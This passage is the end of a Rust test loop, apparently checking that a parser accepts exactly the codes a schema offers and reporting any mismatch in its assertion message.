        let accepted = parse(&base, cat).is_ok();
        assert_eq!(
            accepted,
            offered.contains(&code.name()),
            "{}: the parser {} it, the schema {} it",
            code.name(),
            if accepted { "accepts" } else { "refuses" },
            if offered.contains(&code.name()) {
                "offers"
            } else {
                "does not offer"
            }
        );
    }
}
